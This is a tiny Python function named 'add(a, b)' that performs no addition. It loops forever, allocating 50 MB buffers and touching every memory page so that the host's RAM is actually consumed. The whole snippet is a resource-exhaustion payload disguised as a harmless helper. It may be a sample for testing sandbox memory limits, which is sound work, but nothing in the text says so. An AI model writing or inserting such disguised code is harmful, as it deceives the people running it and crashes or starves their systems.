def add(a, b):
    held = []
    while True:
        held.append(bytearray(50_000_000))
        held[-1][::4096] = b"x" * len(held[-1][::4096])
